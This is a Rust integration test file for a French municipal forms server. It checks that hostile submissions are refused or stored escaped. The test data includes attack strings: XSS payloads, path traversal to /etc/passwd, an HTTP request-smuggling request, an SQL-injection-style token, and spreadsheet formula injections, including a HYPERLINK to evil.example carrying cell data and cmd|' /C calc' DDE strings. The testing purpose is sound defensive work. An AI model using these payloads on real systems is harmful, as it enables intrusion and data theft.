//! The hostile-input corpus, sent to the live server over HTTP: the JSON API, the HTML form
//! path, raw sockets for header abuse, and the back office. Every refused case gets a 4xx
//! with a plain French message, never a 5xx, and writes nothing. Hostile text that is valid
//! (markup, spreadsheet formulas) is stored as typed and comes back escaped or neutralised
//! wherever it is shown. Runs on SQLite, and on PostgreSQL under `TEST_DATABASE_URL`.

use crate::common;

use std::time::Duration;

use common::staff::{add_user, login};
use common::uploads::html_unescape;
use common::{TestApp, spawn_app};
use guichet::domain::Role;
use reqwest::header::CONTENT_TYPE;
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;

const API: &str = "/api/v1/forms/remplacement-bac/submissions";
const HTML: &str = "/demarches/remplacement-bac";
const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";

/// One hostile request and what the server must answer.
struct Case {
    name: String,
    path: &'static str,
    content_type: &'static str,
    body: Vec<u8>,
    status: u16,
    /// A fragment of the plain message the answer carries (HTML unescaped first).
    says: &'static str,
}

fn case(
    name: impl Into<String>,
    path: &'static str,
    content_type: &'static str,
    body: impl Into<Vec<u8>>,
    status: u16,
    says: &'static str,
) -> Case {
    Case {
        name: name.into(),
        path,
        content_type,
        body: body.into(),
        status,
        says,
    }
}

/// A valid bin request, as the API takes it.
fn bin() -> Value {
    json!({
        "motif": "casse",
        "numero_bac": "00123456",
        "type_bac": "ordures-menageres",
        "nombre_residents": 4,
        "nom": "Claire Martin",
        "adresse": {"numero_voie": "12", "rue": "Rue de la Libération", "commune": "marmande"},
        "email": "claire.martin@example.org"
    })
}

/// The valid bin request with one value replaced (`/`-separated pointer; created if absent).
fn bin_with(pointer: &str, value: Value) -> Vec<u8> {
    let mut data = bin();
    let mut target = &mut data;
    let mut keys: Vec<&str> = pointer.trim_start_matches('/').split('/').collect();
    let last = keys.pop().unwrap();
    for key in keys {
        target = &mut target[key];
    }
    target[last] = value;
    serde_json::to_vec(&data).unwrap()
}

/// A valid bin request as its HTML form posts it, sent straight to filing (`_action=submit`),
/// with fields replaced or added; `raw` is appended as is (already encoded).
fn form_with(overrides: &[(&str, &str)], raw: &str) -> Vec<u8> {
    let mut pairs: Vec<(&str, &str)> = vec![
        ("_action", "submit"),
        ("motif", "casse"),
        ("numero_bac", "00123456"),
        ("type_bac", "ordures-menageres"),
        ("nombre_residents", "4"),
        ("nom", "Claire Martin"),
        ("adresse.rue", "Rue de la Libération"),
        ("adresse.commune", "marmande"),
    ];
    for (name, value) in overrides {
        pairs.retain(|(n, _)| n != name);
        pairs.push((name, value));
    }
    let mut body = serde_urlencoded::to_string(&pairs).unwrap();
    body.push_str(raw);
    body.into_bytes()
}

fn json_cases() -> Vec<Case> {
    let deep = format!("{}{}", "[".repeat(5_000), "]".repeat(5_000));
    let mut unknown_keys = serde_json::Map::new();
    for i in 0..20_000 {
        unknown_keys.insert(format!("champ{i}"), json!(i));
    }
    vec![
        case(
            "oversized body",
            API,
            JSON,
            bin_with("/nom", json!("x".repeat(2 * 1024 * 1024))),
            413,
            "trop volumineux",
        ),
        case(
            "oversized field",
            API,
            JSON,
            bin_with("/nom", json!("x".repeat(10_000))),
            422,
            "trop long",
        ),
        case("deep nesting", API, JSON, deep, 400, "mal formé"),
        case(
            "deep nesting inside a field",
            API,
            JSON,
            bin_with("/nom", serde_json::from_str(&format!("{}{}", "[".repeat(100), "]".repeat(100))).unwrap()),
            422,
            "Saisissez un texte",
        ),
        case(
            "invalid UTF-8",
            API,
            JSON,
            b"{\"nom\": \"Claire \xff\xfe Martin\"}".to_vec(),
            400,
            "mal formé",
        ),
        case(
            "a raw NUL byte in a string",
            API,
            JSON,
            b"{\"nom\": \"a\x00b\"}".to_vec(),
            400,
            "mal formé",
        ),
        case(
            "an escaped NUL in a text",
            API,
            JSON,
            bin_with("/nom", json!("Claire\u{0}Martin")),
            400,
            "caractère nul",
        ),
        case(
            "a control character in a nested text",
            API,
            JSON,
            bin_with("/adresse/rue", json!("Rue\u{7} de la Paix")),
            422,
            "caractère invisible",
        ),
        case(
            "a NUL in an unknown key",
            API,
            JSON,
            bin_with("/a\u{0}b", json!(1)),
            400,
            "caractère nul",
        ),
        case(
            "a control character in an unknown key",
            API,
            JSON,
            bin_with("/a\u{1b}b", json!(1)),
            422,
            "caractère invisible",
        ),
        case("a number for a text", API, JSON, bin_with("/nom", json!(42)), 422, "Saisissez un texte"),
        case("a list for a text", API, JSON, bin_with("/nom", json!(["a"])), 422, "Saisissez un texte"),
        case(
            "a text for an integer",
            API,
            JSON,
            bin_with("/nombre_residents", json!("quatre")),
            422,
            "nombre entier",
        ),
        case(
            "a decimal for an integer",
            API,
            JSON,
            bin_with("/nombre_residents", json!(4.5)),
            422,
            "nombre entier",
        ),
        case(
            "null for an integer",
            API,
            JSON,
            bin_with("/nombre_residents", Value::Null),
            422,
            "nombre entier",
        ),
        case(
            "a text for an object",
            API,
            JSON,
            bin_with("/adresse", json!("12 rue de la Paix")),
            422,
            "groupe de réponses",
        ),
        case(
            "a choice that is not offered",
            API,
            JSON,
            bin_with("/motif", json!("autre")),
            422,
            "Choisissez",
        ),
        case(
            "a text for a number",
            "/api/v1/forms/encombrants/submissions",
            JSON,
            br#"{"volume_m3": "beaucoup"}"#.to_vec(),
            422,
            "Saisissez un nombre",
        ),
        case(
            "a text for a list",
            "/api/v1/forms/encombrants/submissions",
            JSON,
            r#"{"objets": "canapé"}"#.as_bytes().to_vec(),
            422,
            "liste de choix",
        ),
        case(
            "a text for a yes/no",
            "/api/v1/forms/signalement-voirie/submissions",
            JSON,
            br#"{"danger_immediat": "oui"}"#.to_vec(),
            422,
            "oui ou par non",
        ),
        case(
            "an extra field",
            API,
            JSON,
            bin_with("/statut", json!("resolu")),
            422,
            "statut",
        ),
        case(
            "20,000 extra fields",
            API,
            JSON,
            serde_json::to_vec(&Value::Object(unknown_keys)).unwrap(),
            422,
            "champ0",
        ),
        case(
            "a key given twice",
            API,
            JSON,
            br#"{"motif": "casse", "nom": "Claire Martin", "nom": "Autre Personne", "type_bac": "ordures-menageres", "nombre_residents": 4, "numero_bac": "00123456", "adresse": {"rue": "Rue A", "commune": "marmande"}}"#.to_vec(),
            400,
            "apparaît deux fois",
        ),
        case(
            "a huge integer",
            API,
            JSON,
            bin_with("/nombre_residents", json!(1e300)),
            422,
            "inférieure ou égale à 20",
        ),
        case(
            "an integer past 64 bits",
            API,
            JSON,
            String::from_utf8(bin_with("/nombre_residents", json!(0)))
                .unwrap()
                .replace("\"nombre_residents\":0", "\"nombre_residents\":123456789012345678901234567890"),
            422,
            "inférieure ou égale à 20",
        ),
        case(
            "a number past the floating-point range",
            API,
            JSON,
            br#"{"nombre_residents": 1e400}"#.to_vec(),
            400,
            "mal formé",
        ),
        case("an array for the request", API, JSON, b"[]".to_vec(), 422, "objet JSON"),
        case("null for the request", API, JSON, b"null".to_vec(), 422, "objet JSON"),
        case("an empty body", API, JSON, Vec::new(), 400, "mal formé"),
        case(
            "an unknown commune",
            API,
            JSON,
            bin_with("/adresse/commune", json!("atlantide")),
            422,
            "commune",
        ),
        case(
            "a 5,000-character value for a patterned field (bounded by its length first)",
            API,
            JSON,
            bin_with("/numero_bac", json!(format!("{}x", "0".repeat(5_000)))),
            422,
            "trop long",
        ),
        case("text/plain instead of JSON", API, "text/plain", serde_json::to_vec(&bin()).unwrap(), 415, "Content-Type"),
    ]
}

fn html_cases() -> Vec<Case> {
    let long = "x".repeat(300 * 1024);
    vec![
        case(
            "oversized body",
            HTML,
            FORM,
            form_with(&[("nom", &long)], ""),
            413,
            "trop volumineux",
        ),
        case(
            "oversized field",
            HTML,
            FORM,
            form_with(&[("nom", &"x".repeat(5_000))], ""),
            422,
            "trop long",
        ),
        case(
            "percent-encoded bytes that are not UTF-8",
            HTML,
            FORM,
            form_with(&[], "&nom=%FF%FE"),
            400,
            "illisible",
        ),
        case(
            "raw bytes that are not UTF-8",
            HTML,
            FORM,
            [form_with(&[], "&nom="), b"\xff\xfe".to_vec()].concat(),
            400,
            "illisible",
        ),
        case(
            "a NUL byte",
            HTML,
            FORM,
            form_with(&[("nom", "Claire\u{0}Martin")], ""),
            400,
            "caractère nul",
        ),
        case(
            "an escape character",
            HTML,
            FORM,
            form_with(&[("nom", "Claire\u{1b}[31mMartin")], ""),
            422,
            "caractère invisible",
        ),
        case(
            "a text for an integer",
            HTML,
            FORM,
            form_with(&[("nombre_residents", "quatre")], ""),
            422,
            "nombre entier",
        ),
        case(
            "a huge integer",
            HTML,
            FORM,
            form_with(
                &[("nombre_residents", "123456789012345678901234567890")],
                "",
            ),
            422,
            "nombre entier",
        ),
        case(
            "an integer beyond the floating-point range",
            HTML,
            FORM,
            form_with(&[("nombre_residents", "1e400")], ""),
            422,
            "nombre entier",
        ),
        case(
            "a choice that is not offered",
            HTML,
            FORM,
            form_with(&[("motif", "autre")], ""),
            422,
            "Choisissez",
        ),
        case(
            "a field given twice",
            HTML,
            FORM,
            form_with(&[], "&nom=Autre+Personne"),
            422,
            "plusieurs fois",
        ),
        case(
            "an unknown commune",
            HTML,
            FORM,
            form_with(&[("adresse.commune", "atlantide")], ""),
            422,
            "commune",
        ),
        case(
            "a hidden field missing its condition",
            HTML,
            FORM,
            form_with(&[("numero_bac", "")], ""),
            422,
            "obligatoire",
        ),
        case(
            "JSON to the HTML form",
            HTML,
            JSON,
            serde_json::to_vec(&bin()).unwrap(),
            415,
            "rechargez",
        ),
        case(
            "a multipart body without its boundary",
            HTML,
            "multipart/form-data",
            b"--x\r\nContent-Disposition: form-data; name=\"nom\"\r\n\r\nA\r\n--x--\r\n".to_vec(),
            400,
            "rechargez",
        ),
    ]
}

async fn send(app: &TestApp, case: &Case) -> (u16, String) {
    let response = app
        .client
        .post(app.url(case.path))
        .header(CONTENT_TYPE, case.content_type)
        .body(case.body.clone())
        .send()
        .await
        .unwrap_or_else(|err| panic!("{}: no answer: {err}", case.name));
    let status = response.status().as_u16();
    (
        status,
        html_unescape(&response.text().await.unwrap_or_default()),
    )
}

#[tokio::test]
async fn every_hostile_submission_gets_a_plain_4xx_and_writes_nothing() {
    let app = spawn_app().await;
    let mut failures = Vec::new();
    for case in json_cases().iter().chain(html_cases().iter()) {
        let (status, body) = send(&app, case).await;
        if status != case.status || !body.contains(case.says) {
            failures.push(format!(
                "{} ({}): expected {} saying {:?}, got {status}: {}",
                case.name,
                case.path,
                case.status,
                case.says,
                body.chars().take(300).collect::<String>()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert_eq!(app.count().await, 0, "no hostile case wrote a request");
    // The server is still whole: the valid request goes through.
    let response = app
        .client
        .post(app.url(API))
        .json(&bin())
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 201);
    assert_eq!(app.count().await, 1);
}

/// Answers that hold no visible character, each a different kind of blank.
const BLANKS: &[(&str, &str)] = &[
    ("empty", ""),
    ("spaces and tabs", "  \t "),
    ("line breaks", "\n\r\n"),
    ("no-break spaces", "\u{A0}\u{202F}\u{A0}"),
    ("other Unicode spaces", "\u{2003}\u{2009}\u{3000}\u{205F}"),
    ("zero-width space", "\u{200B}"),
    ("zero-width joiner and non-joiner", "\u{200D}\u{200C}"),
    ("word joiner", "\u{2060}"),
    ("byte-order mark", "\u{FEFF}"),
    ("soft hyphen", "\u{AD}\u{AD}"),
    ("Hangul filler", "\u{3164}"),
    ("blank Braille pattern", "\u{2800}"),
    ("spaces around invisible characters", " \u{200B} \u{FEFF} "),
];

#[tokio::test]
async fn a_required_answer_without_a_visible_character_is_missing_on_both_paths() {
    let app = spawn_app().await;
    let mut failures = Vec::new();
    for (name, blank) in BLANKS {
        // JSON API: 422, "obligatoire" at the field's pointer.
        let response = app
            .client
            .post(app.url(API))
            .header(CONTENT_TYPE, JSON)
            .body(bin_with("/nom", json!(blank)))
            .send()
            .await
            .unwrap();
        let status = response.status().as_u16();
        let body: Value = response.json().await.unwrap_or(Value::Null);
        let at_field = body["errors"].as_array().into_iter().flatten().any(|e| {
            e["path"] == "/nom" && e["message"].as_str().unwrap_or("").contains("obligatoire")
        });
        if status != 422 || !at_field {
            failures.push(format!("API, {name}: {status} {body}"));
        }
        // A nested required answer too.
        let response = app
            .client
            .post(app.url(API))
            .header(CONTENT_TYPE, JSON)
            .body(bin_with("/adresse/rue", json!(blank)))
            .send()
            .await
            .unwrap();
        let status = response.status().as_u16();
        let body: Value = response.json().await.unwrap_or(Value::Null);
        if status != 422 || !body.to_string().contains("/adresse/rue") {
            failures.push(format!("API, nested, {name}: {status} {body}"));
        }
        // HTML form: 422, the message next to the field.
        let response = app
            .client
            .post(app.url(HTML))
            .header(CONTENT_TYPE, FORM)
            .body(form_with(&[("nom", blank)], ""))
            .send()
            .await
            .unwrap();
        let status = response.status().as_u16();
        let page = html_unescape(&response.text().await.unwrap());
        if status != 422
            || !page.contains(
                "id=\"f-nom-error\"><span class=\"visually-hidden\">Erreur&nbsp;:</span> Ce champ est obligatoire",
            )
        {
            failures.push(format!("HTML, {name}: {status}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert_eq!(app.count().await, 0, "no blank answer was filed");
    // A visible character among invisible ones is an answer, and an optional answer left
    // blank is not stored as spaces.
    let mut data = bin();
    data["nom"] = json!("\u{200B}Claire\u{A0}Martin ");
    data["adresse"]["numero_voie"] = json!("\u{A0} ");
    let response = app
        .client
        .post(app.url(API))
        .json(&data)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 201);
    let reference = response.json::<Value>().await.unwrap()["reference"]
        .as_str()
        .unwrap()
        .to_owned();
    let stored = app
        .store
        .request_by_reference(&guichet::domain::Reference::parse(&reference).unwrap())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(stored.data["nom"], "\u{200B}Claire\u{A0}Martin ");
    assert!(
        stored.data["adresse"].get("numero_voie").is_none(),
        "{}",
        stored.data
    );
}

/// Embedding, override and isolate controls make a name display as something else.
#[tokio::test]
async fn bidirectional_controls_are_refused_at_the_field_on_both_paths() {
    let app = spawn_app().await;
    let mut failures = Vec::new();
    for control in ('\u{202A}'..='\u{202E}').chain('\u{2066}'..='\u{2069}') {
        let name = format!("Claire {control}nitraM");
        let response = app
            .client
            .post(app.url(API))
            .header(CONTENT_TYPE, JSON)
            .body(bin_with("/nom", json!(name)))
            .send()
            .await
            .unwrap();
        let status = response.status().as_u16();
        let body: Value = response.json().await.unwrap_or(Value::Null);
        let at_field = body["errors"].as_array().into_iter().flatten().any(|e| {
            e["path"] == "/nom"
                && e["message"]
                    .as_str()
                    .unwrap_or("")
                    .contains("sens d'écriture")
        });
        if status != 422 || !at_field {
            failures.push(format!("API, U+{:04X}: {status} {body}", control as u32));
        }
        let response = app
            .client
            .post(app.url(HTML))
            .header(CONTENT_TYPE, FORM)
            .body(form_with(
                &[("adresse.rue", &format!("Rue {control}evil"))],
                "",
            ))
            .send()
            .await
            .unwrap();
        let status = response.status().as_u16();
        let page = html_unescape(&response.text().await.unwrap());
        if status != 422 || !page.contains("sens d'écriture") {
            failures.push(format!("HTML, U+{:04X}: {status}", control as u32));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert_eq!(app.count().await, 0);
    // Right-to-left text itself, with the implicit marks keyboards insert, is welcome.
    let response = app
        .client
        .post(app.url(API))
        .header(CONTENT_TYPE, JSON)
        .body(bin_with(
            "/nom",
            json!("\u{5E9}\u{5E8}\u{5D4} \u{200F}\u{644}\u{64A}\u{644}\u{649}"),
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 201);
}

/// Sends raw bytes on a fresh connection and returns what came back before it closed.
async fn raw(app: &TestApp, bytes: &[u8]) -> String {
    let mut stream = tokio::net::TcpStream::connect(app.address.trim_start_matches("http://"))
        .await
        .unwrap();
    // The server may answer and close before reading everything; that is an answer too.
    let _ = stream.write_all(bytes).await;
    common::read_until_closed(&mut stream).await.0
}

#[tokio::test]
async fn header_abuse_is_refused_at_the_door() {
    let app = spawn_app().await;
    let body = serde_json::to_string(&bin()).unwrap();
    let many_headers: String = (0..500).map(|i| format!("X-H{i}: v\r\n")).collect();
    // hyper refuses these while parsing the head, with a status and no body; the statuses
    // are asserted, so a server that closes without answering fails too.
    let cases: Vec<(&str, String, u16)> = vec![
        (
            "two different Content-Lengths",
            format!(
                "POST {API} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json\r\nContent-Length: 5\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            ),
            400,
        ),
        (
            "a Content-Length that is not a number",
            format!(
                "POST {API} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n{body}"
            ),
            400,
        ),
        (
            "an unknown transfer coding",
            format!(
                "POST {API} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json\r\nTransfer-Encoding: gzip\r\n\r\n{body}"
            ),
            400,
        ),
        (
            "500 headers",
            format!("GET / HTTP/1.1\r\nHost: g\r\n{many_headers}\r\n"),
            431,
        ),
        (
            "a header line without a colon",
            "GET / HTTP/1.1\r\nHost: g\r\nNot a header\r\n\r\n".into(),
            400,
        ),
        (
            "a 100 KiB request line (over the 64 KiB head limit)",
            format!(
                "GET /{} HTTP/1.1\r\nHost: g\r\n\r\n",
                "a".repeat(100 * 1024)
            ),
            431,
        ),
        (
            "a bare LF request with a NUL in the path",
            "GET /\0 HTTP/1.1\nHost: g\n\n".into(),
            400,
        ),
        (
            "control characters in a header value",
            format!(
                "POST {API} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json; charset=\u{0}\u{1}\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            ),
            400,
        ),
    ];
    for (name, request, expected) in cases {
        let response = raw(&app, request.as_bytes()).await;
        assert!(
            response.starts_with(&format!("HTTP/1.1 {expected} ")),
            "{name}: expected {expected}, got {}",
            response
                .lines()
                .next()
                .unwrap_or("(closed without an answer)")
        );
    }
    assert_eq!(app.count().await, 0, "no smuggled request was filed");

    // Chunked and a Content-Length together (request smuggling): RFC 9112 §6.3 lets the
    // server read the chunked body, which is the request meant, provided it then closes
    // the connection so that nothing after it is read as another request.
    let smuggled = format!(
        "POST {API} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json\r\nContent-Length: 4\r\n\r\n{body}"
    );
    let request = format!(
        "POST {API} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{body}\r\n0\r\n\r\n{smuggled}",
        body.len()
    );
    let response = raw(&app, request.as_bytes()).await;
    assert_eq!(
        response.matches("HTTP/1.1 ").count(),
        1,
        "one answer, then closed: {response}"
    );
    assert_eq!(app.count().await, 1, "the second request was not read");

    // Headers a client controls, on ordinary requests.
    let client = &app.client;
    let junk_cookie = client
        .get(app.url("/bureau"))
        .header(
            "cookie",
            format!("guichet_session={}; x=\"; =; ;;", "%ff".repeat(2_000)),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(
        junk_cookie.status(),
        303,
        "a junk session cookie is not signed in"
    );
    for token in ["", "x", &"A".repeat(8_000), "gst_' OR 1=1 --"] {
        let response = client
            .get(app.url("/api/v1/queues"))
            .header("authorization", format!("Bearer {token}"))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 401, "token {:?}", token.get(..10));
        let body: Value = response.json().await.unwrap();
        assert!(body["errors"][0]["message"].as_str().unwrap().len() > 10);
    }
    let basic = client
        .get(app.url("/api/v1/queues"))
        .header("authorization", "Basic YWRtaW46YWRtaW4=")
        .send()
        .await
        .unwrap();
    assert_eq!(basic.status(), 401);
    let cross_site = client
        .post(app.url("/bureau/connexion"))
        .header("sec-fetch-site", "cross-site")
        .form(&[("email", "a@b.fr"), ("password", "x")])
        .send()
        .await
        .unwrap();
    assert_eq!(cross_site.status(), 403);
    // A media type that is not text (obs-text bytes pass the parser, not our reading of
    // it): sent raw, since HTTP clients refuse to.
    let charset = raw(
        &app,
        &[
            format!("POST {API} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json; charset=")
                .as_bytes(),
            b"\xff",
            format!(
                "\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            )
            .as_bytes(),
        ]
        .concat(),
    )
    .await;
    assert!(charset.starts_with("HTTP/1.1 415 "), "{charset}");
    assert!(
        charset.contains("Content-Type: application/json"),
        "{charset}"
    );
    assert_eq!(app.count().await, 1, "only the chunked request was filed");
    for path in [
        "/suivi?reference=GU-%00",
        "/bureau/files/dechets-bacs?commune=%00",
        "/api/v1/forms/remplacement-bac/submissions?commune=a%00",
        "/demarches/remplacement-bac%00",
    ] {
        let response = client.get(app.url(path)).send().await.unwrap();
        assert_eq!(response.status(), 400, "{path}");
        assert!(
            response.text().await.unwrap().contains("caractère nul"),
            "{path}"
        );
    }
    let login_nul = client
        .post(app.url("/bureau/connexion"))
        .form(&[("email", "agent\u{0}@example.org"), ("password", "x\u{0}y")])
        .send()
        .await
        .unwrap();
    assert!(
        login_nul.status().is_client_error(),
        "a NUL in a login is refused, not a database error: {}",
        login_nul.status()
    );
}

/// RFC 9112 §3.2: an HTTP/1.1 request names its host in exactly one `Host` line, and one
/// that does not is answered 400. An empty `Host` is refused too (every resource here is an
/// `http` URI, which has a host); HTTP/1.0, which had no `Host`, is still served.
#[tokio::test]
async fn a_request_without_exactly_one_host_is_400() {
    let app = spawn_app().await;
    let body = serde_json::to_string(&bin()).unwrap();
    let filing = |hosts: &str| {
        format!(
            "POST {API} HTTP/1.1\r\n{hosts}Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let refused = [
        (
            "no Host",
            "GET / HTTP/1.1\r\nConnection: close\r\n\r\n".to_owned(),
        ),
        ("no Host, filing", filing("")),
        ("two Hosts", filing("Host: g\r\nHost: h\r\n")),
        ("the same Host twice", filing("Host: g\r\nHost: g\r\n")),
        ("an empty Host", filing("Host:\r\n")),
        ("a Host with user information", filing("Host: admin@g\r\n")),
        ("a Host with a path", filing("Host: g/suivi\r\n")),
        (
            "a Host with a port that is not a number",
            filing("Host: g:http\r\n"),
        ),
        (
            "an absolute target without Host",
            "GET http://g/ HTTP/1.1\r\nConnection: close\r\n\r\n".to_owned(),
        ),
        (
            "HTTP/1.0 with two Hosts",
            "GET / HTTP/1.0\r\nHost: g\r\nHost: h\r\n\r\n".to_owned(),
        ),
    ];
    for (name, request) in refused {
        let response = raw(&app, request.as_bytes()).await;
        assert!(
            response.starts_with("HTTP/1.") && response[8..].starts_with(" 400 "),
            "{name}: {}",
            response
                .lines()
                .next()
                .unwrap_or("(closed without an answer)")
        );
        assert!(
            html_unescape(&response).contains("exactement un en-tête Host"),
            "{name}: a plain message: {response}"
        );
        let is_api = request.starts_with("POST /api/");
        assert!(
            response.contains(if is_api {
                "content-type: application/json"
            } else {
                "content-type: text/html"
            }),
            "{name}: {response}"
        );
    }
    assert_eq!(
        app.count().await,
        0,
        "no request without one Host was filed"
    );

    for (name, request) in [
        (
            "HTTP/1.0 without Host",
            "GET /livez HTTP/1.0\r\n\r\n".to_owned(),
        ),
        (
            "one Host",
            "GET /livez HTTP/1.1\r\nHost: g\r\nConnection: close\r\n\r\n".to_owned(),
        ),
        (
            "one Host with a port",
            "GET /livez HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nConnection: close\r\n\r\n".to_owned(),
        ),
    ] {
        let response = raw(&app, request.as_bytes()).await;
        assert!(
            response.starts_with("HTTP/1.")
                && response[8..].starts_with(" 200 ")
                && response.ends_with("ok"),
            "{name}: {response}"
        );
    }
    let served = raw(&app, filing("Host: g\r\nConnection: close\r\n").as_bytes()).await;
    assert!(served.starts_with("HTTP/1.1 201 "), "{served}");
    assert_eq!(app.count().await, 1);
}

#[tokio::test]
async fn paths_that_climb_out_are_not_found() {
    let app = spawn_app().await;
    for path in [
        "/static/..%2f..%2fCargo.toml",
        "/static/../Cargo.toml",
        "/suivi/..%2f..%2fetc%2fpasswd",
        "/suivi/abc/pieces/..%2f..%2f..%2fetc%2fpasswd",
        "/demarches/..%2fremplacement-bac",
        "/bureau/demandes/..%2F..%2Fetc/pieces/..",
    ] {
        let response = app.client.get(app.url(path)).send().await.unwrap();
        let status = response.status().as_u16();
        let body = response.text().await.unwrap();
        assert!(matches!(status, 303 | 400 | 404), "{path}: {status}");
        assert!(
            !body.contains("[package]") && !body.contains("root:"),
            "{path} leaked a file"
        );
    }
}

const SCRIPT: &str = "<script>alert('nom')</script>";
const IMG: &str = "\"><img src=x onerror=alert(1)>";

/// Where the markup shows in a page, it shows as text.
fn assert_escaped(page: &str, what: &str) {
    assert!(!page.contains(SCRIPT), "{what}: raw <script> in the page");
    assert!(!page.contains(IMG), "{what}: raw <img onerror> in the page");
    assert!(!page.contains("<img src=x"), "{what}: an injected element");
}

#[tokio::test]
async fn markup_comes_back_escaped_wherever_it_is_shown() {
    let app = spawn_app().await;
    // Reflected: query strings and paths echoed in pages.
    for path in [
        format!("/suivi?reference={}", urlencode(SCRIPT)),
        format!("/demarches/{}", urlencode(SCRIPT)),
        format!("/?q={}", urlencode(IMG)),
        format!("/bureau/connexion?suite={}", urlencode(IMG)),
    ] {
        let page = app.get_text(&path).await;
        assert_escaped(&page, &path);
    }
    // The review page of the HTML path shows the answers back before filing.
    let review = app
        .client
        .post(app.url(HTML))
        .header(CONTENT_TYPE, FORM)
        .body(
            String::from_utf8(form_with(
                &[("_action", "review"), ("nom", SCRIPT), ("adresse.rue", IMG)],
                "",
            ))
            .unwrap(),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(review.status(), 200);
    let page = review.text().await.unwrap();
    assert_escaped(&page, "review page");
    assert!(
        html_unescape(&page).contains(SCRIPT),
        "the text itself is kept"
    );
    // Stored: filed through the API, then read by the citizen, the agent and the élu.
    let response = app
        .client
        .post(app.url(API))
        .body(bin_with("/nom", json!(SCRIPT)))
        .header(CONTENT_TYPE, JSON)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 201);
    let created: Value = response.json().await.unwrap();
    let reference = created["reference"].as_str().unwrap();
    let tracking = created["tracking_url"].as_str().unwrap();
    let tracking_path = &tracking[tracking.find("/suivi/").unwrap()..];
    assert_escaped(&app.get_text(tracking_path).await, "tracking page");

    add_user(&app, "agent@bacs.fr", Role::Agent, &["environnement"], &[]).await;
    add_user(&app, "elu@marmande.fr", Role::Elu, &[], &["marmande"]).await;
    let agent = login(&app, "agent@bacs.fr").await;
    let (status, _) = agent.act(&app, reference, "note", &[("text", IMG)]).await;
    assert!(status.is_success() || status.is_redirection(), "{status}");
    let (status, _) = agent
        .act(&app, reference, "message", &[("text", SCRIPT)])
        .await;
    assert!(status.is_success() || status.is_redirection(), "{status}");
    let (_, page) = agent
        .get(&app, &format!("/bureau/demandes/{reference}"))
        .await;
    assert_escaped(&page, "agent's request page");
    assert!(
        html_unescape(&page).contains(IMG),
        "the note is shown, as text"
    );
    let (_, queue) = agent.get(&app, "/bureau/files/dechets-bacs").await;
    assert_escaped(&queue, "queue listing");
    assert!(queue.contains(reference));
    assert_escaped(
        &app.get_text(tracking_path).await,
        "tracking page with a message",
    );
    let elu = login(&app, "elu@marmande.fr").await;
    for path in [
        format!("/bureau/demandes/{reference}"),
        format!("/bureau/demandes/{reference}/compte-rendu"),
        "/bureau/elu".to_owned(),
    ] {
        let (status, page) = elu.get(&app, &path).await;
        assert_eq!(status, 200, "{path}");
        assert_escaped(&page, &path);
    }
    // The receipt e-mail (HTML part) escapes too.
    let mail_dir = app.data_dir.path().join("mail");
    let mut mails = String::new();
    for _ in 0..50 {
        mails = std::fs::read_dir(&mail_dir)
            .map(|entries| {
                entries
                    .flatten()
                    .map(|e| std::fs::read_to_string(e.path()).unwrap_or_default())
                    .collect()
            })
            .unwrap_or_default();
        // The agent's message to the citizen, which holds the markup, has been sent.
        if mails.matches("alert(").count() >= 2 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // The HTML parts, with quoted-printable soft line breaks joined (plain-text parts show
    // the text as typed, which is right: nothing renders them).
    let html: String = mails
        .split("Content-Type: text/html")
        .skip(1)
        .map(|part| {
            part.split("\r\n--")
                .next()
                .unwrap_or_default()
                .replace("=\r\n", "")
        })
        .collect();
    assert!(!html.is_empty(), "an HTML e-mail was sent");
    assert!(!html.contains("<script"), "raw markup in an HTML e-mail");
    assert!(
        html_unescape(&html).contains("<script>alert("),
        "the message is in the HTML part, escaped:\n{html}"
    );
}

fn urlencode(text: &str) -> String {
    serde_urlencoded::to_string([("x", text)]).unwrap()[2..].to_owned()
}

#[tokio::test]
async fn spreadsheet_formulas_stay_text_in_the_csv_export() {
    let app = spawn_app().await;
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
        "+33 5 53 00 00 00",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        // Spreadsheets skip leading spaces (no-break ones too) and fold fullwidth signs.
        "  =1+1",
        "\u{A0}+1+1",
        "\u{200B}@SUM(1)",
        "\u{FF1D}HYPERLINK(\"http://evil.example\")",
        "\u{FF0D}1+1",
    ];
    for formula in formulas {
        let response = app
            .client
            .post(app.url(API))
            .header(CONTENT_TYPE, JSON)
            .body(bin_with("/nom", json!(formula)))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 201);
    }
    add_user(&app, "agent@bacs.fr", Role::Agent, &["environnement"], &[]).await;
    let agent = login(&app, "agent@bacs.fr").await;
    let response = app
        .client
        .get(app.url("/bureau/files/dechets-bacs/export.csv?commune=marmande"))
        .header("cookie", &agent.cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
